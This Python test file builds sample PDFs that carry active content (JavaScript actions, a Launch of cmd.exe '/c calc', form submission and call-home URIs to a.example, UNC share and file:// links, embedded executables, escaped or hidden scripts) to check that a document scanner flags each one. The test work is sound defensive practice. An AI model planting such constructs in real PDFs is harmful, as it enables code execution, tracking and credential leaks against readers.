"""PDFs that act: by a script, a program, a form, an attachment, a film, or a link to something other than the web."""

from __future__ import annotations

import io

import pikepdf

from documents.rules import reasons
from tests.corpus.sample import HARMLESS, family
from tests.documents.make_packed_pdf import assemble_packed
from tests.documents.make_pdf import objects, pdf, stream

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
SENDING = b"<</S/SubmitForm/F(http://a.example)>>"
FILE = b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>"
PROGRAM = stream(b"MZ", head=b"/Type/EmbeddedFile")
FONT_MATRIX = b"<</Type/Font/Subtype/Type1/BaseFont/A/FontMatrix[1 2 3 4 5 (0\\); alert\\(1\\)//)]>>"


def opening(action: bytes) -> bytes:
    return pdf(catalog=b"/OpenAction" + action)


def note(entries: bytes, *more: bytes) -> bytes:
    """An annotation of the page."""
    return pdf(page=b"/Annots[<</Type/Annot/Rect[0 0 9 9]%s>>]" % entries, more=more)


def link(action: bytes) -> bytes:
    return note(b"/Subtype/Link/A" + action)


def field(entries: bytes) -> bytes:
    widget = b"/Subtype/Widget/FT/Btn/T(a)" + entries
    return pdf(catalog=b"/AcroForm<</Fields[7 0 R]>>", more=(b"<</Type/Annot/Rect[0 0 9 9]%s>>" % widget,))


def holding(entry: bytes) -> bytes:
    return pdf(catalog=entry, more=(PROGRAM,))


def packed(action: bytes) -> bytes:
    return assemble_packed(objects(catalog=b"/OpenAction 8 0 R"), [action])


def later(change: bytes, *, first: bytes) -> bytes:
    """A file with a second part behind its end, which says that the catalog is another."""
    start = len(first)
    catalog = b"1 0 obj\n<</Type/Catalog/Pages 2 0 R%s>>\nendobj\n" % change
    before = int(first.rpartition(b"startxref\n")[2].split()[0])
    table = b"xref\n1 1\n%010d 00000 n \n" % start
    trailer = b"trailer\n<</Size 7/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (before, start + len(catalog))
    return first + catalog + table + trailer


def locked(*, user: str) -> bytes:
    kept = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as paper:
        paper.save(kept, encryption=pikepdf.Encryption(owner="a", user=user), static_id=True)
    return kept.getvalue()


SAMPLES = family("pdf actions", "to-trinh.pdf", {
    "a script on opening": (lambda: opening(SCRIPT), reasons.PDF_SCRIPT),
    "a script on a page": (lambda: pdf(page=b"/AA<</O%s>>" % SCRIPT), reasons.PDF_SCRIPT),
    "a script on closing": (lambda: pdf(catalog=b"/AA<</WC%s>>" % SCRIPT), reasons.PDF_SCRIPT),
    "a script among the names": (
        lambda: pdf(catalog=b"/Names<</JavaScript<</Names[(a)%s]>>>>" % SCRIPT), reasons.PDF_SCRIPT,
    ),
    "a script behind a note": (lambda: link(SCRIPT), reasons.PDF_SCRIPT),
    "a script when the mouse passes": (lambda: note(b"/Subtype/Widget/AA<</E%s>>" % SCRIPT), reasons.PDF_SCRIPT),
    "a script of a field": (lambda: field(b"/AA<</F%s>>" % SCRIPT), reasons.PDF_SCRIPT),
    "a script after another act": (
        lambda: link(b"<</S/URI/URI(https://chinhphu.vn)/Next[%s]>>" % SCRIPT), reasons.PDF_SCRIPT,
    ),
    "a script in the outline": (
        lambda: pdf(catalog=b"/Outlines<</First<</Title(a)/A%s>>>>" % SCRIPT), reasons.PDF_SCRIPT,
    ),
    "a script spelled with escapes": (
        lambda: opening(b"<</#53/J#61vaScr#69pt/J#53(a)>>"), reasons.PDF_SCRIPT,
    ),
    "a script in a stream of text": (
        lambda: pdf(catalog=b"/OpenAction<</S/JavaScript/JS 7 0 R>>", more=(stream(b"a", packed=True),)),
        reasons.PDF_SCRIPT,
    ),
    "a script in a packed object": (lambda: packed(SCRIPT), reasons.PDF_SCRIPT),
    "a script that was added later": (lambda: later(b"/OpenAction" + SCRIPT, first=pdf()), reasons.PDF_SCRIPT),
    "a script that was taken out later": (lambda: later(b"", first=opening(SCRIPT)), HARMLESS),
    "a script in a matrix of letters": (
        lambda: pdf(page=b"/A 7 0 R", more=(FONT_MATRIX,)), HARMLESS,
    ),
    "a program": (lambda: opening(b"<</S/Launch/F(cmd.exe)>>"), reasons.PDF_LAUNCH),
    "a program of Windows": (lambda: link(b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"), reasons.PDF_LAUNCH),
    "a program without a name": (lambda: link(b"<</S/Launch>>"), reasons.PDF_LAUNCH),
    "a form that sends itself": (lambda: pdf(page=b"/AA<</C%s>>" % SENDING), reasons.PDF_LAUNCH),
    "a button that sends": (lambda: field(b"/A" + SENDING), reasons.PDF_LAUNCH),
    "a form that reads a file": (lambda: field(b"/A<</S/ImportData/F(a.fdf)>>"), reasons.PDF_LAUNCH),
    "a call home on opening": (lambda: opening(b"<</S/URI/URI(http://a.example/seen)>>"), reasons.PDF_LAUNCH),
    "a call home on turning a page": (
        lambda: pdf(page=b"/AA<</O<</S/URI/URI(http://a.example/seen)>>>>"), reasons.PDF_LAUNCH,
    ),
    "a jump into an attached file": (lambda: opening(b"<</S/GoToE/T<</N(a)>>>>"), reasons.PDF_LAUNCH),
    "a jump into another file": (lambda: link(b"<</S/GoToR/F(c:/a.pdf)/D[0/Fit]>>"), reasons.PDF_OUTSIDE),
    "a jump to a share on opening": (
        lambda: opening(rb"<</S/GoToR/F(\\\\a.example\\x.pdf)/D[0/Fit]>>"), reasons.PDF_LAUNCH,
    ),
    "a thread in another file": (lambda: link(b"<</S/Thread/F(c:/a.pdf)/D 0>>"), reasons.PDF_OUTSIDE),
    "a link to a file": (lambda: link(b"<</S/URI/URI(file:///C:/Windows/win.ini)>>"), reasons.PDF_OUTSIDE),
    "a link to a share": (lambda: link(rb"<</S/URI/URI(\\\\a.example\\x)>>"), reasons.PDF_OUTSIDE),
    "a link that is a script": (lambda: link(b"<</S/URI/URI(java\\nscript:alert\\(1\\))>>"), reasons.PDF_OUTSIDE),
    "a link in wide letters": (
        lambda: link(b"<</S/URI/URI<%s>>>" % "javascript:a".encode("utf-16").hex().encode()), reasons.PDF_OUTSIDE,
    ),
    "links that start from a file": (lambda: pdf(catalog=b"/URI<</Base(file:///C:/)>>"), reasons.PDF_OUTSIDE),
    "a stream that lies elsewhere": (
        lambda: pdf(page=b"/A 7 0 R", more=(stream(b"", head=b"/F(http://a.example/x)"),)), reasons.PDF_OUTSIDE,
    ),
    "a page of another file": (
        lambda: pdf(page=b"/A<</Subtype/Form/Ref<</F(c:/a.pdf)/Page 0>>>>"), reasons.PDF_OUTSIDE,
    ),
    "an attached program": (
        lambda: holding(b"/Names<</EmbeddedFiles<</Names[(a)%s]>>>>" % FILE), reasons.PDF_ATTACHMENT,
    ),
    "an attached program as a note": (
        lambda: note(b"/Subtype/FileAttachment/FS" + FILE, PROGRAM), reasons.PDF_ATTACHMENT,
    ),
    "an attached program of the catalog": (lambda: holding(b"/AF[%s]" % FILE), reasons.PDF_ATTACHMENT),
    "a portfolio": (lambda: pdf(catalog=b"/Collection<<>>/Names<</EmbeddedFiles<<>>>>"), reasons.PDF_ATTACHMENT),
    "a film with a program": (lambda: note(b"/Subtype/RichMedia/RichMediaContent<<>>"), reasons.PDF_MEDIA),
    "an old film": (lambda: note(b"/Subtype/Movie/Movie<</F(a.avi)>>"), reasons.PDF_MEDIA),
    "a film on a screen": (lambda: note(b"/Subtype/Screen/A<</S/Rendition/OP 0>>"), reasons.PDF_MEDIA),
    "a sound": (lambda: link(b"<</S/Sound/Sound 7 0 R>>"), reasons.PDF_MEDIA),
    "a model in space": (lambda: note(b"/Subtype/3D/3DD 7 0 R", stream(b"U3D")), reasons.PDF_MEDIA),
    "an interactive form": (
        lambda: pdf(catalog=b"/AcroForm<</XFA 7 0 R>>", more=(stream(b"<xdp:xdp/>"),)), reasons.PDF_FORM,
    ),
    "a password": (lambda: locked(user="b"), reasons.PASSWORD),
    "a password of its owner": (lambda: locked(user=""), reasons.PASSWORD),
})  # fmt: skip
